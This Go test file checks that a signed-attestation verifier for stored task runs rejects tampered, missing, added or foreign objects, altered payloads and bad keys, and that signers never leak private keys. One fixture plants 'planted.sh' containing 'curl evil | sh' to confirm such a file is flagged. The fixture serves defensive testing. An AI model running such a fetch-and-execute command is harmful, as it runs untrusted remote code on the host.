package attest_test

import (
	"bytes"
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/secure-systems-lab/go-securesystemslib/dsse"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/taskrun/taskrun/attest"
	"github.com/taskrun/taskrun/persist"
)

// keyPair is a generated key as the files an operator would hold.
type keyPair struct {
	name     string
	privPEM  []byte
	pubPEM   []byte
	signer   *attest.Signer
	verifier *attest.Verifier
}

func newKeyPair(t testing.TB, alg string) keyPair {
	t.Helper()
	var priv any
	switch alg {
	case "ed25519":
		_, k, err := ed25519.GenerateKey(rand.Reader)
		require.NoError(t, err)
		priv = k
	case "ecdsa":
		k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		require.NoError(t, err)
		priv = k
	}
	der, err := x509.MarshalPKCS8PrivateKey(priv)
	require.NoError(t, err)
	kp := keyPair{name: alg, privPEM: pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})}
	pubDER, err := x509.MarshalPKIXPublicKey(priv.(crypto.Signer).Public())
	require.NoError(t, err)
	kp.pubPEM = pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pubDER})
	dir := t.TempDir()
	privPath, pubPath := filepath.Join(dir, "key.pem"), filepath.Join(dir, "key.pub")
	require.NoError(t, os.WriteFile(privPath, kp.privPEM, 0o600))
	require.NoError(t, os.WriteFile(pubPath, kp.pubPEM, 0o644))
	kp.signer, err = attest.LoadSigner(privPath)
	require.NoError(t, err)
	kp.verifier, err = attest.LoadVerifier(pubPath)
	require.NoError(t, err)
	return kp
}

// run is a run's objects in a real blob store, and the envelope over them.
type run struct {
	st       *persist.Store
	ref      persist.RunRef
	keys     []string
	envelope []byte
}

var runID = attest.RunIdentity{UserID: "u1", ConversationID: "c1", TaskID: "t1", RunID: "r1", SessionID: "s1"}

func storeRun(t testing.TB, ctx context.Context, st *persist.Store, id attest.RunIdentity, s *attest.Signer) run {
	t.Helper()
	ref := persist.RunRef{UserID: id.UserID, ConversationID: id.ConversationID, TaskID: id.TaskID, RunID: id.RunID}
	r := run{st: st, ref: ref}
	var subjects []attest.Subject
	for name, body := range map[string]string{"output.log": "hello from " + id.RunID + "\n", "audit.json": `{"version":1}`, "collection.json": `{"skipped":[]}`} {
		info, err := st.PutRunFile(ctx, ref, name, strings.NewReader(body), "text/plain")
		require.NoError(t, err)
		subjects = append(subjects, attest.Subject{Name: info.Key, SHA256: info.SHA256})
		r.keys = append(r.keys, info.Key)
	}
	info, err := st.PutArtifact(ctx, ref, "report.md", strings.NewReader("# report\n"), "text/markdown")
	require.NoError(t, err)
	subjects = append(subjects, attest.Subject{Name: info.Key, SHA256: info.SHA256})
	r.keys = append(r.keys, info.Key)
	trace, err := persist.TracePath(id.SessionID, id.RunID)
	require.NoError(t, err)
	info, err = st.PutGlobalFile(ctx, id.UserID, trace, strings.NewReader(`{"t":1}`+"\n"), "application/x-ndjson")
	require.NoError(t, err)
	subjects = append(subjects, attest.Subject{Name: info.Key, SHA256: info.SHA256})
	r.keys = append(r.keys, info.Key)

	pred := attest.Predicate{
		Run:     id,
		Image:   attest.Image{Ref: "taskrun/agent:local", Digest: "sha256:" + strings.Repeat("ab", 32)},
		Runtime: "runc", Backend: "docker",
		Policy:  json.RawMessage(`{"network_mode":"none","pids_limit":256}`),
		Outcome: attest.Outcome{Status: "SUCCEEDED"},
	}
	r.envelope, err = attest.Sign(ctx, s, subjects, pred)
	require.NoError(t, err)
	_, err = st.PutRunFile(ctx, ref, attest.ObjectName, bytes.NewReader(r.envelope), "application/json")
	require.NoError(t, err)
	return r
}

// verify checks env as `taskrun verify` does for r's run.
func (r run) verify(t testing.TB, ctx context.Context, env []byte, v *attest.Verifier) attest.Result {
	t.Helper()
	prefix, err := persist.RunPrefix(r.ref)
	require.NoError(t, err)
	tenant, err := persist.TenantPrefix(r.ref.UserID)
	require.NoError(t, err)
	listed, err := r.st.List(ctx, prefix)
	require.NoError(t, err)
	want := attest.Expect{
		Run:      attest.RunIdentity{UserID: r.ref.UserID, ConversationID: r.ref.ConversationID, TaskID: r.ref.TaskID, RunID: r.ref.RunID},
		Prefixes: []string{prefix, tenant + "global/"},
		Listed:   listed,
	}
	res, err := attest.Verify(ctx, env, v, want, func(ctx context.Context, key string) (io.ReadCloser, error) {
		rc, err := r.st.Open(ctx, key)
		if errors.Is(err, persist.ErrNotFound) {
			return nil, fmt.Errorf("%w: %w", attest.ErrMissing, err)
		}
		return rc, err
	})
	require.NoError(t, err)
	return res
}

func openStore(t testing.TB) *persist.Store {
	t.Helper()
	st, err := persist.Open(t.Context(), "file://"+t.TempDir())
	require.NoError(t, err)
	t.Cleanup(func() { st.Close() })
	return st
}

func kinds(res attest.Result) []string {
	var out []string
	for _, p := range res.Problems {
		out = append(out, p.Kind)
	}
	return out
}

func TestAnUnmodifiedRunVerifies(t *testing.T) {
	for _, alg := range []string{"ed25519", "ecdsa"} {
		t.Run(alg, func(t *testing.T) {
			ctx := t.Context()
			kp := newKeyPair(t, alg)
			r := storeRun(t, ctx, openStore(t), runID, kp.signer)
			res := r.verify(t, ctx, r.envelope, kp.verifier)
			require.NoError(t, res.Err())
			assert.True(t, res.Verified)
			assert.Equal(t, len(r.keys), res.Subjects)
			assert.Equal(t, len(r.keys), res.Checked)
			id, _ := kp.signer.KeyID()
			assert.Equal(t, id, res.KeyID)
			require.NotNil(t, res.Predicate)
			assert.Equal(t, id, res.Predicate.Executor.KeyID)
			assert.Equal(t, runID, res.Predicate.Run)
			assert.Equal(t, "runc", res.Predicate.Runtime)
			assert.JSONEq(t, `{"network_mode":"none","pids_limit":256}`, string(res.Predicate.Policy))
		})
	}
}

// Each tamper of a stored subject, one byte at a time, is refused naming
// the object.
func TestEveryTamperedSubjectIsNamed(t *testing.T) {
	ctx := t.Context()
	kp := newKeyPair(t, "ed25519")
	st := openStore(t)
	r := storeRun(t, ctx, st, runID, kp.signer)
	for _, key := range r.keys {
		t.Run(key[strings.LastIndex(key, "/")+1:], func(t *testing.T) {
			rc, err := st.Open(ctx, key)
			require.NoError(t, err)
			orig, err := io.ReadAll(rc)
			rc.Close()
			require.NoError(t, err)
			changed := bytes.Clone(orig)
			changed[0] ^= 0x01
			restore := overwrite(t, st, key, changed)
			res := r.verify(t, ctx, r.envelope, kp.verifier)
			restore()
			assert.False(t, res.Verified)
			require.Len(t, res.Problems, 1, "%v", res.Problems)
			assert.Equal(t, attest.ProblemDigest, res.Problems[0].Kind)
			assert.Equal(t, key, res.Problems[0].Object)
			assert.ErrorIs(t, res.Err(), attest.ErrNotVerified)
			assert.ErrorContains(t, res.Err(), key)
			// Restored, the run verifies again: the refusal was the byte.
			require.NoError(t, r.verify(t, ctx, r.envelope, kp.verifier).Err())
		})
	}
}

// overwrite replaces the object at key (a run file, artifact or run-global
// file of run r) and returns how to put the original back.
func overwrite(t *testing.T, st *persist.Store, key string, data []byte) func() {
	t.Helper()
	ctx := t.Context()
	rc, err := st.Open(ctx, key)
	require.NoError(t, err)
	orig, err := io.ReadAll(rc)
	rc.Close()
	require.NoError(t, err)
	put := func(b []byte) {
		parts := strings.SplitN(key, "/", 3)
		user, rest := parts[1], parts[2]
		var err error
		switch {
		case strings.HasPrefix(rest, "global/"):
			_, err = st.PutGlobalFile(ctx, user, strings.TrimPrefix(rest, "global/"), bytes.NewReader(b), "")
		default:
			el := strings.Split(rest, "/") // conversations/C/tasks/T/runs/R/...
			ref := persist.RunRef{UserID: user, ConversationID: el[1], TaskID: el[3], RunID: el[5]}
			name := strings.Join(el[6:], "/")
			if a, ok := strings.CutPrefix(name, "artifacts/"); ok {
				_, err = st.PutArtifact(ctx, ref, a, bytes.NewReader(b), "")
			} else {
				_, err = st.PutRunFile(ctx, ref, name, bytes.NewReader(b), "")
			}
		}
		require.NoError(t, err)
	}
	put(data)
	return func() { put(orig) }
}

func TestAMissingSubjectIsNamed(t *testing.T) {
	ctx := t.Context()
	kp := newKeyPair(t, "ecdsa")
	dir := t.TempDir()
	st, err := persist.Open(ctx, "file://"+dir)
	require.NoError(t, err)
	defer st.Close()
	r := storeRun(t, ctx, st, runID, kp.signer)
	victim := r.keys[0]
	require.NoError(t, os.Remove(filepath.Join(dir, filepath.FromSlash(victim))))
	res := r.verify(t, ctx, r.envelope, kp.verifier)
	assert.Equal(t, []string{attest.ProblemMissing}, kinds(res))
	assert.Equal(t, victim, res.Problems[0].Object)
}

func TestAnObjectAddedToTheRunIsNamed(t *testing.T) {
	ctx := t.Context()
	kp := newKeyPair(t, "ed25519")
	st := openStore(t)
	r := storeRun(t, ctx, st, runID, kp.signer)
	info, err := st.PutArtifact(ctx, r.ref, "planted.sh", strings.NewReader("curl evil | sh\n"), "")
	require.NoError(t, err)
	res := r.verify(t, ctx, r.envelope, kp.verifier)
	assert.Equal(t, []string{attest.ProblemUnattested}, kinds(res))
	assert.Equal(t, info.Key, res.Problems[0].Object)
}

// decode splits an envelope into its parts, to tamper with one.
func decode(t *testing.T, env []byte) (dsse.Envelope, map[string]any) {
	t.Helper()
	var e dsse.Envelope
	require.NoError(t, json.Unmarshal(env, &e))
	payload, err := e.DecodeB64Payload()
	require.NoError(t, err)
	var st map[string]any
	require.NoError(t, json.Unmarshal(payload, &st))
	return e, st
}

func encode(t *testing.T, e dsse.Envelope, st map[string]any) []byte {
	t.Helper()
	payload, err := json.Marshal(st)
	require.NoError(t, err)
	e.Payload = base64.StdEncoding.EncodeToString(payload)
	out, err := json.Marshal(e)
	require.NoError(t, err)
	return out
}

func TestATamperedPredicateIsRefused(t *testing.T) {
	ctx := t.Context()
	kp := newKeyPair(t, "ecdsa")
	r := storeRun(t, ctx, openStore(t), runID, kp.signer)
	// Claim a stronger sandbox than the run had, changing only those bytes
	// of the signed payload.
	res := r.verify(t, ctx, replaceInPayload(t, r.envelope, `"runtime":"runc"`, `"runtime":"runsc"`), kp.verifier)
	assert.Equal(t, []string{attest.ProblemSignature}, kinds(res))
	assert.Contains(t, res.Problems[0].Detail, "does not match the payload")
	require.NotNil(t, res.Predicate)
	assert.Equal(t, "runsc", res.Predicate.Runtime, "the tampered predicate was read")
	// The same path with nothing replaced verifies.
	require.NoError(t, r.verify(t, ctx, replaceInPayload(t, r.envelope, `"runtime":"runc"`, `"runtime":"runc"`), kp.verifier).Err())
}

// replaceInPayload replaces old, which must occur, by new in env's payload.
func replaceInPayload(t *testing.T, env []byte, old, new string) []byte {
	t.Helper()
	var e dsse.Envelope
	require.NoError(t, json.Unmarshal(env, &e))
	payload, err := e.DecodeB64Payload()
	require.NoError(t, err)
	require.Contains(t, string(payload), old)
	e.Payload = base64.StdEncoding.EncodeToString(bytes.Replace(payload, []byte(old), []byte(new), 1))
	out, err := json.Marshal(e)
	require.NoError(t, err)
	return out
}

func TestATamperedSubjectDigestIsRefused(t *testing.T) {
	ctx := t.Context()
	kp := newKeyPair(t, "ed25519")
	r := storeRun(t, ctx, openStore(t), runID, kp.signer)
	e, st := decode(t, r.envelope)
	subj := st["subject"].([]any)[0].(map[string]any)
	subj["digest"] = map[string]any{"sha256": strings.Repeat("0", 64)}
	res := r.verify(t, ctx, encode(t, e, st), kp.verifier)
	assert.ElementsMatch(t, []string{attest.ProblemSignature, attest.ProblemDigest}, kinds(res))
}

func TestATamperedSignatureIsRefused(t *testing.T) {
	ctx := t.Context()
	kp := newKeyPair(t, "ed25519")
	r := storeRun(t, ctx, openStore(t), runID, kp.signer)
	e, st := decode(t, r.envelope)
	sig, err := base64.StdEncoding.DecodeString(e.Signatures[0].Sig)
	require.NoError(t, err)
	sig[len(sig)/2] ^= 0x80
	e.Signatures[0].Sig = base64.StdEncoding.EncodeToString(sig)
	res := r.verify(t, ctx, encode(t, e, st), kp.verifier)
	assert.Equal(t, []string{attest.ProblemSignature}, kinds(res))
}

func TestTheWrongKeyIsRefused(t *testing.T) {
	ctx := t.Context()
	kp, other := newKeyPair(t, "ecdsa"), newKeyPair(t, "ecdsa")
	r := storeRun(t, ctx, openStore(t), runID, kp.signer)
	res := r.verify(t, ctx, r.envelope, other.verifier)
	assert.Equal(t, []string{attest.ProblemSignature}, kinds(res))
	otherID, _ := other.verifier.KeyID()
	assert.Contains(t, res.Problems[0].Detail, otherID)
	assert.Empty(t, res.KeyID)
}

// A signed envelope of another run of the same tenant, moved onto this run,
// verifies its own subjects but is not this run's.
func TestAnEnvelopeFromAnotherRunIsRefused(t *testing.T) {
	ctx := t.Context()
	kp := newKeyPair(t, "ed25519")
	st := openStore(t)
	r1 := storeRun(t, ctx, st, runID, kp.signer)
	id2 := runID
	id2.RunID = "r2"
	r2 := storeRun(t, ctx, st, id2, kp.signer)
	_, err := st.PutRunFile(ctx, r1.ref, attest.ObjectName, bytes.NewReader(r2.envelope), "application/json")
	require.NoError(t, err)
	res := r1.verify(t, ctx, r2.envelope, kp.verifier)
	assert.False(t, res.Verified)
	assert.Contains(t, kinds(res), attest.ProblemRun)
	assert.Contains(t, kinds(res), attest.ProblemOutside)
	assert.Contains(t, kinds(res), attest.ProblemUnattested)
}

func TestAnUnsignedEnvelopeIsRefused(t *testing.T) {
	ctx := t.Context()
	kp := newKeyPair(t, "ed25519")
	r := storeRun(t, ctx, openStore(t), runID, nil)
	e, _ := decode(t, r.envelope)
	assert.Empty(t, e.Signatures)
	res := r.verify(t, ctx, r.envelope, kp.verifier)
	assert.Equal(t, []string{attest.ProblemUnsigned}, kinds(res))
	require.NotNil(t, res.Predicate)
	assert.Empty(t, res.Predicate.Executor.KeyID, "an unsigned statement says it was not signed")
	assert.Equal(t, len(r.keys), res.Checked, "the subjects are still checked")
}

func TestUnusableKeysAreRefusedWithTheFix(t *testing.T) {
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	require.NoError(t, err)
	rsaDER, err := x509.MarshalPKIXPublicKey(&rsaKey.PublicKey)
	require.NoError(t, err)
	_, err = attest.ParseVerifier(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: rsaDER}))
	assert.ErrorIs(t, err, attest.ErrKey)
	assert.ErrorContains(t, err, "ECDSA P-256 or Ed25519")
	_, err = attest.ParseSigner([]byte("not a key"))
	assert.ErrorIs(t, err, attest.ErrKey)
	assert.ErrorContains(t, err, "PEM")
	p384, err := ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	require.NoError(t, err)
	der, err := x509.MarshalPKCS8PrivateKey(p384)
	require.NoError(t, err)
	_, err = attest.ParseSigner(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
	assert.ErrorIs(t, err, attest.ErrKey)
	assert.ErrorContains(t, err, "P-256")
	kp := newKeyPair(t, "ed25519")
	_, err = attest.ParseVerifier(kp.privPEM)
	assert.ErrorIs(t, err, attest.ErrKey, "a private key given as --key is refused")
}

// Printing or logging a Signer, with any verb or handler, as a pointer, a
// copy or a field (exported or not) of another value, shows its key ID,
// never the private key; so does one made by NewSigner around a key in
// memory.
func TestASignerNeverPrintsItsKey(t *testing.T) {
	for _, alg := range []string{"ed25519", "ecdsa"} {
		kp := newKeyPair(t, alg)
		block, _ := pem.Decode(kp.privPEM)
		priv, err := x509.ParsePKCS8PrivateKey(block.Bytes)
		require.NoError(t, err)
		// Every way the key's secret could be spelled out.
		var secrets []string
		switch k := priv.(type) {
		case ed25519.PrivateKey:
			secrets = append(secrets, fmt.Sprint(k.Seed()), fmt.Sprintf("%x", k.Seed()), fmt.Sprint([]byte(k)), fmt.Sprintf("%x", []byte(k)),
				strings.Trim(fmt.Sprint(k.Seed()[:8]), "[]"))
		case *ecdsa.PrivateKey:
			raw, err := k.Bytes()
			require.NoError(t, err)
			d := new(big.Int).SetBytes(raw)
			secrets = append(secrets, hex.EncodeToString(raw), fmt.Sprint(raw), d.String(), d.Text(16), fmt.Sprintf("%X", raw))
		}
		wrapped, err := attest.NewSigner(priv.(crypto.Signer))
		require.NoError(t, err)
		for name, s := range map[string]*attest.Signer{"LoadSigner": kp.signer, "NewSigner": wrapped} {
			id, err := s.KeyID()
			require.NoError(t, err)
			type exported struct {
				Key  *attest.Signer
				Copy attest.Signer
			}
			type unexported struct {
				key  *attest.Signer
				copy attest.Signer
			}
			values := []any{s, *s, exported{s, *s}, unexported{s, *s}, &unexported{s, *s}, []attest.Signer{*s}, map[string]any{"k": *s}}
			var outs []string
			for _, v := range values {
				for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%d", "%x", "%X", "%q", "%T %v"} {
					outs = append(outs, fmt.Sprintf(verb, v))
				}
				var js, txt bytes.Buffer
				slog.New(slog.NewJSONHandler(&js, nil)).Info("run", "key", v)
				slog.New(slog.NewTextHandler(&txt, nil)).Info("run", "key", v)
				outs = append(outs, js.String(), txt.String())
			}
			for _, out := range outs {
				for _, secret := range secrets {
					require.NotContains(t, out, secret, "%s %s", alg, name)
				}
			}
			assert.Contains(t, fmt.Sprintf("%v", s), id)
			assert.Contains(t, fmt.Sprintf("%d", *s), id)
			var logged bytes.Buffer
			slog.New(slog.NewJSONHandler(&logged, nil)).Info("run", "key", s)
			assert.Contains(t, logged.String(), id)
		}
	}
}
